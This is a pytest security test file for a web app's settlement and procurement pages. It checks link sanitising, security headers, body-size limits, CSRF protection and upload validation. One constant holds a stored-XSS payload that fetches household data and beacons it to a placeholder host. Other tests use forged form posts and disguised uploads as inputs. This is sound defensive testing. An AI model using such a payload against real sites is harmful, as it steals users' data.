"""Issue 16, the web side: a stored `javascript:` address never becomes a link, every answer carries the security
headers, an oversized body is refused unread, the plan form needs its CSRF token, an inspection photo must be an
image and is served as what it is, and no error message shows a Python object. Each test performs the attack."""

from __future__ import annotations

import asyncio
import datetime as dt
import io
import json
import re
from collections.abc import Iterator
from typing import Any

import pytest
from api_support import Api
from fastapi import Depends
from fastapi.testclient import TestClient
from PIL import Image
from procurement_support import Market, make_market
from sqlalchemy import func, select, update
from sqlalchemy.orm import Session
from test_forms import csrf_of, log_in
from test_procurement_api import _signed

from homecoming.accounts.roles import Role
from homecoming.config import Settings
from homecoming.files.store import FolderStore, original_key
from homecoming.http.deps import public
from homecoming.http.headers import SECURITY_HEADERS
from homecoming.procurement.models import Inspection
from homecoming.returns.models import ReturnEvent
from homecoming.server.app import create_app
from homecoming.territory.models import Settlement

HTML = {"accept": "text/html"}
PAYLOAD = 'javascript:fetch("/api/households").then(r=>r.text()).then(t=>navigator.sendBeacon("//x",t))'
MIB = 1024 * 1024


def _store_return(api: Api, code: str, source_url: str) -> None:
    """Straight into the database, past every input rule: as an old import, a restored backup or a hand edit."""
    with Session(api.engine) as session:
        village = session.scalars(select(Settlement.id).where(Settlement.code == "aghdam-v")).one()
        event = ReturnEvent(code=code, settlement_id=village, event_date=dt.date(2025, 6, 1), date_precision="day",
                            kind="convoy", cumulative=False, families=50, people=200)  # fmt: skip
        session.add(event)
        session.flush()
        session.execute(update(ReturnEvent).where(ReturnEvent.code == code).values(source_url=source_url))
        session.commit()


def test_a_stored_javascript_address_is_no_link_on_the_public_settlement_page(api: Api) -> None:
    _store_return(api, "hostile", PAYLOAD)
    _store_return(api, "sourced", "https://example.org/report?id=1")
    page = api.client.get("/settlements/aghdam-v")
    assert page.status_code == 200
    links = re.findall(r'(?:href|src)="([^"]*)"', page.text)
    assert all(re.match(r"(/(?!/)|#|https?://)", link) for link in links), links
    assert "javascript:" not in " ".join(links).lower()
    assert 'href="https://example.org/report?id=1"' in page.text  # a real source keeps its link


def test_every_answer_carries_the_security_headers(api: Api) -> None:
    answers = {
        "page": api.client.get("/", headers=HTML),
        "api": api.client.get("/api/districts"),
        "static": api.client.get("/static/style.css"),
        "missing page": api.client.get("/no-such-page", headers=HTML),
        "missing in the api": api.client.get("/api/no-such-thing"),
        "refused body": api.client.post("/api/settlements", content=b"x" * (MIB + 1)),
    }
    assert [answer.status_code for answer in answers.values()] == [200, 200, 200, 404, 404, 413]
    for what, answer in answers.items():
        for name, value in SECURITY_HEADERS:
            assert answer.headers.get(name) == value, (what, name)
    policy = answers["page"].headers["content-security-policy"]
    assert "script-src 'self'" in policy and "unsafe-inline" not in policy and "frame-ancestors 'none'" in policy
    assert "<script>" not in answers["page"].text and "style=" not in answers["page"].text


def test_an_oversized_body_is_refused_unread_with_or_without_a_true_length(api: Api) -> None:
    declared = api.client.post("/api/settlements", content=b"{" + b" " * (2 * MIB), headers=api.as_(Role.PLANNER))
    assert declared.status_code == 413
    assert declared.json()["error"]["code"] == "request.too_large"
    assert declared.json()["error"]["details"] == {"max_bytes": MIB}
    lying = api.client.post("/api/settlements", content=b" " * (2 * MIB), headers={"content-length": "10"})
    assert (lying.status_code, lying.json()["error"]["code"]) == (413, "request.too_large")
    pulled, answer = _stream(api, "/api/settlements", chunks=640, chunk_bytes=64 * 1024)  # 40 MiB, no length
    assert (answer["status"], answer["code"]) == (413, "request.too_large")
    assert pulled == MIB // (64 * 1024) + 1  # reading stopped at the first chunk past the limit
    form = api.client.post("/login", data={"username": "x" * (2 * MIB), "password": "y"}, headers=HTML)
    assert form.status_code == 413 and 'data-code="request.too_large"' in form.text


def _stream(api: Api, path: str, *, chunks: int, chunk_bytes: int) -> tuple[int, dict[str, Any]]:
    """Send a body without Content-Length straight to the app (the test client would read it whole first): how
    many chunks the app pulled, and its answer's status and error code."""
    pulled, sent = 0, []

    async def receive() -> dict[str, Any]:
        nonlocal pulled
        pulled += 1
        return {"type": "http.request", "body": b" " * chunk_bytes, "more_body": pulled < chunks}

    async def send(message: dict[str, Any]) -> None:
        sent.append(message)

    scope = {"type": "http", "asgi": {"version": "3.0"}, "http_version": "1.1", "method": "POST", "scheme": "http",
             "path": path, "raw_path": path.encode(), "root_path": "", "query_string": b"",
             "headers": [(b"host", b"testserver"), (b"content-type", b"application/json")],
             "client": ("127.0.0.1", 5000), "server": ("testserver", 80)}  # fmt: skip
    asyncio.run(api.client.app(scope, receive, send))  # type: ignore[arg-type]
    body = json.loads(b"".join(m.get("body", b"") for m in sent if m["type"] == "http.response.body"))
    return pulled, {"status": sent[0]["status"], "code": body["error"]["code"]}


def test_a_plan_run_cannot_be_started_from_another_site(api: Api) -> None:
    log_in(api, Role.PLANNER)  # the planner's browser holds the session cookie; a hostile page posts the form
    forged = api.client.post("/plans", data={"scenario": "forged", "seconds": "1"}, headers=HTML)
    assert forged.status_code == 403 and 'data-code="form.csrf"' in forged.text
    wrong = api.client.post("/plans", data={"scenario": "forged", "seconds": "1", "csrf_token": "guess"}, headers=HTML)
    assert wrong.status_code == 403
    assert api.client.get("/api/plan-jobs").json()["total"] == 0
    token = csrf_of(api.client.get("/plans").text)
    made = api.client.post("/plans", data={"scenario": "mine", "seconds": "1", "csrf_token": token},
                           follow_redirects=False)  # fmt: skip
    assert made.status_code == 303


@pytest.fixture
def inspection(api: Api, tmp_path: Any) -> Iterator[tuple[Market, int]]:
    market = make_market(api)
    app: Any = api.client.app
    app.state.settings = app.state.settings.model_copy(update={"files_dir": tmp_path / "files"})
    _signed(market)
    report = {"inspected_on": "2025-06-02", "passed": True}
    made = market.post(Role.DATA_ENTRY, "/api/contracts/C-1/milestones/1/inspections", report, 201)
    yield market, int(made["id"])


PDF = b"%PDF-1.4\n1 0 obj <<>> endobj\ntrailer <<>>\n%%EOF\n"


def test_an_inspection_photo_must_be_an_image(inspection: tuple[Market, int], tmp_path: Any) -> None:
    market, number = inspection
    url = f"/api/inspections/{number}/photos"
    pdf = market.call("POST", Role.DATA_ENTRY, url, 422, files={"photo": ("site.pdf", PDF, "image/jpeg")})
    assert pdf["error"]["code"] == "files.not_an_image"
    renamed = market.call("POST", Role.DATA_ENTRY, url, 422, files={"photo": ("site.jpg", PDF, "image/jpeg")})
    assert renamed["error"]["code"] == "files.content_mismatch"
    broken = market.call("POST", Role.DATA_ENTRY, url, 422, files={"photo": ("a.jpg", b"\xff\xd8\xff" + b"x" * 99)})
    assert broken["error"]["code"] == "files.corrupt"
    assert " object at 0x" not in broken["error"]["message"] and "<" not in broken["error"]["message"]
    assert market.get(Role.PLANNER, f"/api/inspections/{number}/photos/1", 404)
    assert not (tmp_path / "files").exists()  # nothing was stored
    photo = io.BytesIO()
    Image.new("RGB", (8, 8), (1, 2, 3)).save(photo, format="PNG")
    market.call("POST", Role.DATA_ENTRY, url, 201, files={"photo": ("site.png", photo.getvalue(), "image/png")})
    shown = market.api.client.get(f"{url}/1", headers=market.headers(Role.PLANNER))
    assert (shown.status_code, shown.headers["content-type"]) == (200, "image/png")


def test_a_file_stored_as_a_photo_is_served_as_what_it_is(inspection: tuple[Market, int], tmp_path: Any) -> None:
    market, number = inspection
    key = original_key("0" * 64, ".jpg")  # a PDF accepted as a photo before uploads were checked
    FolderStore(tmp_path / "files").put(key, PDF)
    with Session(market.api.engine) as session:
        session.get_one(Inspection, number).photos = [key]
        session.commit()
        assert session.scalar(select(func.count()).select_from(Inspection)) == 1
    served = market.api.client.get(f"/api/inspections/{number}/photos/1", headers=market.headers(Role.PLANNER))
    assert served.status_code == 200
    assert served.headers["content-type"] == "application/pdf"
    assert served.headers["content-disposition"] == "attachment"
    assert served.headers["x-content-type-options"] == "nosniff"


def test_a_crash_answers_in_the_error_shape_with_the_headers() -> None:
    app = create_app(Settings(database_url="sqlite://", secret_key="test-secret"))

    @app.get("/api/crash", dependencies=[Depends(public)])
    def crash() -> None:
        raise RuntimeError("a bug with a secret in its message")

    answer = TestClient(app, raise_server_exceptions=False).get("/api/crash")
    assert (answer.status_code, answer.json()["error"]["code"]) == (500, "server.error")
    assert "secret" not in answer.text
    assert all(answer.headers.get(name) == value for name, value in SECURITY_HEADERS)
